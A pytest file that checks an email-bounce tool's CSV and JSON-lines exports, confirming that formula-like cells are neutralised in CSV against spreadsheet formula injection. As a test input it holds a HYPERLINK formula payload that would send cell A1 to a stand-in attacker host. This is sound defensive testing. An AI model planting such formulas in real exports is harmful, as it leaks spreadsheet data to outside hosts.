"""``bounceloop errors`` and ``bounceloop events`` as CSV and as JSON lines, on both
databases: a cell a spreadsheet would run as a formula is neutralised in CSV (OWASP "CSV
Injection", core.csvcell) and the same value is exact in jsonl.

The hostile values come the way they would in real life: a recipient address from a signup
form (``=`` ``+`` ``-`` are atext, RFC 5322 3.2.3) and a remote server's diagnostic text in
a DSN, ingested with ``bounceloop ingest``.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from bounceloop.cli import cli

pytestmark = pytest.mark.usefixtures("clean_environment")

MIME = b"Message-ID: <w@sender.test>\r\nFrom: news@sender.test\r\nSubject: W\r\n\r\nHi.\r\n"
RECIPIENTS = ["=1+2@dest.test", "-ann@dest.test", "+bob@dest.test"]
DIAGNOSTIC = '=HYPERLINK("http://evil.test/?"&A1,"click")'


def dsn(recipient: str, original: bytes) -> bytes:
    """A bare RFC 3464 DSN whose only text is the remote server's diagnostic."""
    return (
        "From: MAILER-DAEMON@mx.dest.test\r\nTo: news@sender.test\r\nSubject: failure\r\n"
        "MIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; "
        "boundary=\"B\"\r\n\r\n--B\r\nContent-Type: message/delivery-status\r\n\r\n"
        "Reporting-MTA: dns; mx.dest.test\r\n\r\n"
        f"Final-Recipient: rfc822; {recipient}\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        f"Diagnostic-Code: smtp; {DIAGNOSTIC}\r\n\r\n--B\r\n"
        "Content-Type: text/rfc822-headers\r\n\r\n").encode() + original + b"\r\n--B--\r\n"


def invoke(url: str, *args: str) -> Result:
    env = {"BOUNCELOOP_DATABASE_URL": url, "BOUNCELOOP_BOUNCE_DOMAIN": "bounce.sender.test",
           "BOUNCELOOP_VERP_SECRET": "cli-secret", "BOUNCELOOP_HOSTNAME": "client.test",
           "BOUNCELOOP_PARSE_PROCESSES": "0"}
    return CliRunner().invoke(cli, list(args), env=env)


def out(result: Result) -> str:
    assert result.exit_code == 0, result.output
    return result.stdout


def test_csv_neutralises_formulas_and_jsonl_keeps_them(database_url: str,
                                                      tmp_path: Path) -> None:
    (tmp_path / "msg.eml").write_bytes(MIME)
    (tmp_path / "rcpts.csv").write_text("email\n" + "\n".join(RECIPIENTS) + "\n")
    sent = [json.loads(line) for line in out(invoke(
        database_url, "send", "--from", "news@sender.test", "--mime", str(tmp_path / "msg.eml"),
        "--recipients", str(tmp_path / "rcpts.csv"))).splitlines()]
    assert [m["recipient"] for m in sent] == RECIPIENTS
    for n, m in enumerate(sent):
        copy = f"X-Bounceloop-Id: {m['id']}\r\n".encode() + MIME
        path = tmp_path / f"{n}.eml"
        path.write_bytes(f"Delivered-To: {m['envelope']}\r\n".encode()
                         + dsn(m["recipient"], copy))
        assert json.loads(out(invoke(database_url, "ingest", str(path))))["tied"] == 1

    raw = [json.loads(line) for line in out(invoke(database_url, "errors", "--format",
                                                   "jsonl")).splitlines()]
    assert [(e["recipient"], e["description"]) for e in raw] == [
        (r, DIAGNOSTIC) for r in RECIPIENTS]
    rows = list(csv.DictReader(io.StringIO(out(invoke(database_url, "errors", "--format",
                                                      "csv")))))
    assert [(e["recipient"], e["description"]) for e in rows] == [
        ("'" + r, "'" + DIAGNOSTIC) for r in RECIPIENTS]
    # Numbers stay numbers; every other text cell is as in jsonl.
    for j, c in zip(raw, rows, strict=True):
        assert c["step"] == "5" and c["mailing_id"] == str(j["mailing_id"])
        assert {k: v for k, v in c.items() if k not in ("recipient", "description")} == {
            k: plain(j[k]) for k in c if k not in ("recipient", "description")}

    events = [json.loads(line) for line in out(invoke(database_url, "events", "--format",
                                                      "jsonl")).splitlines()]
    assert sorted(e["recipient"] for e in events if e["type"] == "bounce") == sorted(
        RECIPIENTS)
    ev_rows = list(csv.DictReader(io.StringIO(out(invoke(database_url, "events", "--format",
                                                         "csv")))))
    assert [e["recipient"] for e in ev_rows] == ["'" + e["recipient"] for e in events]
    # The data column is a JSON object: it begins with "{", and inside it the values are
    # exact (a JSON reader gets them back as they were).
    assert [json.loads(e["data"]) for e in ev_rows] == [e["data"] for e in events]


def plain(value: Any) -> str:
    """A jsonl value as the CSV writes it (for the cells the formula rule leaves alone)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)
